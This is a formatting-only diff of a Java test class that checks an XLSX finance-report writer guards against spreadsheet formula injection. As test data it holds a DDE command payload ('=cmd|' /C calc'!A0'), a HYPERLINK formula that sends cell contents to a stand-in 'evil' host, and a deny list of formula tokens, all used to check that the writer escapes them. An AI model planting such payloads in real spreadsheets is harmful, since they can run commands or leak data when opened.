@@ -63,8 +63,18 @@ class XlsxWriterTest {
             file.forEach(sheet -> names.add(sheet.getSheetName()));
             assertThat(names)
                     .containsExactly(
-                            "About", "Checks", "Summary", "Payments", "Invoices", "FX", "VAT", "Ledger", "BankRec",
-                            "OpenItems", "Held", "Rejected");
+                            "About",
+                            "Checks",
+                            "Summary",
+                            "Payments",
+                            "Invoices",
+                            "FX",
+                            "VAT",
+                            "Ledger",
+                            "BankRec",
+                            "OpenItems",
+                            "Held",
+                            "Rejected");
         }
     }
 
@@ -77,9 +87,12 @@ class XlsxWriterTest {
                     texts.put(cell.getStringCellValue(), (XSSFCell) cell);
                 }
             })));
-            assertThat(texts).containsKeys("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "␉=1+1");
-            assertThat(texts.get("=cmd|' /C calc'!A0").getCellStyle().getQuotePrefixed()).isTrue();
-            assertThat(texts.get("Ana Ribeiro").getCellStyle().getQuotePrefixed()).isFalse();
+            assertThat(texts)
+                    .containsKeys("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "␉=1+1");
+            assertThat(texts.get("=cmd|' /C calc'!A0").getCellStyle().getQuotePrefixed())
+                    .isTrue();
+            assertThat(texts.get("Ana Ribeiro").getCellStyle().getQuotePrefixed())
+                    .isFalse();
         }
     }
 
@@ -91,7 +104,8 @@ class XlsxWriterTest {
                 if (cell.getCellType() == CellType.FORMULA) {
                     assertThat(cell.getCellFormula())
                             .doesNotContainIgnoringCase("HYPERLINK", "WEBSERVICE", "cmd", "[", "http")
-                            .matches("(ALL_OK|AS_OF-E\\d+|[A-Z]+\\d+|[A-Z]+\\d+([+][A-Z]+\\d+)+|0|-?(SUM|SUMIFS|COUNTIF|COUNTIFS|ROUND|IF)\\(.*)");
+                            .matches(
+                                    "(ALL_OK|AS_OF-E\\d+|[A-Z]+\\d+|[A-Z]+\\d+([+][A-Z]+\\d+)+|0|-?(SUM|SUMIFS|COUNTIF|COUNTIFS|ROUND|IF)\\(.*)");
                 }
             })));
         }
@@ -101,7 +115,9 @@ class XlsxWriterTest {
         var books = SampleBooks.of(1);
         FindingRow row = books.rejected.getFirst();
         books.rejected.set(
-                0, new FindingRow(row.invoice(), row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
+                0,
+                new FindingRow(
+                        row.invoice(), row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
         return books;
     }
 
@@ -184,7 +200,8 @@ class XlsxWriterTest {
             assertThat(payments.getRepeatingRows().formatAsString()).isEqualTo("1:1");
             assertThat(payments.getFooter().getCenter()).isEqualTo("Page &P of &N");
             assertThat(payments.getFooter().getRight()).isEqualTo("6f1d0c7be2a94c53");
-            assertThat(payments.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
+            assertThat(payments.getPaneInformation().getHorizontalSplitPosition())
+                    .isEqualTo((short) 1);
             assertThat(payments.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:P8");
             assertThat(file.getPrintArea(file.getSheetIndex(payments))).isEqualTo("Payments!$A$1:$O$15");
         }
